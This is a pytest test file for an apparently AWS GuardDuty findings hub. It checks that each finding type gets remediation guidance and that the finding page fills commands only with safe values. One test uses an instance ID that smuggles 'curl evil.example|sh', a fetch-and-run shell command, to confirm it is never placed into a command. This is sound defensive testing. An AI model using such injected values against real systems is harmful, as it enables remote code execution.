"""Guidance per finding type: every type of the simulator's catalogue and of the real samples
has an entry (its own or its family's), entries are well formed, and the finding page shows it
with commands filled from the finding, never with text that could change a command."""

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.urls import reverse

from guardduty_hub.investigations import advice
from guardduty_hub.simulator.findings import templates
from tests.findings.builders import raw_finding
from tests.fixtures.shared_findings import json_lines
from tests.investigations.world import store

GENERIC = "any-finding"


@pytest.mark.parametrize("ftype", templates.TYPES, ids=lambda t: t.name)
def test_every_catalogue_type_has_an_entry_or_a_family_fallback(ftype):
    guidance = advice.guidance_for(ftype.name)
    assert guidance.id != GENERIC, ftype.name
    assert len(guidance.check) == 3
    assert guidance.means and guidance.remediate


def test_the_real_samples_types_are_covered_too(shared):
    types = {row["Type"] for row in json_lines(shared / "getfindings.jsonl")}
    uncovered = sorted(t for t in types if advice.guidance_for(t).id == GENERIC)
    # Only families the hub has no entry for yet may fall through to the generic advice.
    assert all(
        t.split(":")[1].split("/")[0]
        not in {"EC2", "IAMUser", "S3", "Kubernetes", "Runtime", "RDS", "Lambda"}
        for t in uncovered
    ), uncovered


def test_the_most_specific_entry_wins():
    assert advice.guidance_for("UnauthorizedAccess:EC2/SSHBruteForce").id == "ec2-brute-force"
    assert advice.guidance_for("Impact:EC2/BitcoinDomainRequest.Reputation").id == "ec2-crypto"
    assert advice.guidance_for("Execution:EC2/MaliciousFile").id == "ec2-malicious-file"
    assert advice.guidance_for("Recon:EC2/SomethingNew").id == "ec2-family"
    assert advice.guidance_for("Brand:New/Family").id == GENERIC


def test_entries_are_checked_when_loaded(tmp_path, monkeypatch):
    (tmp_path / "bad.yaml").write_text(
        "- id: x\n  title: t\n  match: ['*']\n  means: m\n  check: [a, b]\n  remediate: [r]\n"
    )
    monkeypatch.setattr(advice, "GUIDANCE_DIR", tmp_path)
    advice.guidance_entries.cache_clear()
    try:
        with pytest.raises(
            ImproperlyConfigured, match=r"bad\.yaml entry 1: 3 things to check, not 2"
        ):
            advice.guidance_entries()
    finally:
        advice.guidance_entries.cache_clear()


@pytest.mark.django_db
def test_the_detail_page_shows_guidance_with_the_findings_values(client_for, admin_alice):
    (finding,) = store(
        [raw_finding(finding_type="UnauthorizedAccess:EC2/SSHBruteForce", instance_id="i-0abc")],
        "us-east-1",
    )
    page = client_for(admin_alice).get(reverse("findings:detail", args=[finding.pk]))
    body = page.content.decode()
    assert 'data-guidance="ec2-brute-force"' in body
    assert "--instance-ids i-0abc" in body
    assert "--group-id &lt;security-group-id&gt;" in body  # unknown: left for the reader


@pytest.mark.django_db
def test_a_hostile_value_is_never_put_into_a_command(client_for, admin_alice):
    raw = raw_finding(finding_type="Recon:EC2/Portscan", instance_id="i-1; curl evil.example|sh")
    (finding,) = store([raw], "us-east-1")
    body = client_for(admin_alice).get(reverse("findings:detail", args=[finding.pk])).content
    assert b"--instance-ids &lt;instance-id&gt;" in body
    assert b"curl evil.example|sh" not in body.split(b'id="guidance"')[1].split(b"</section>")[0]
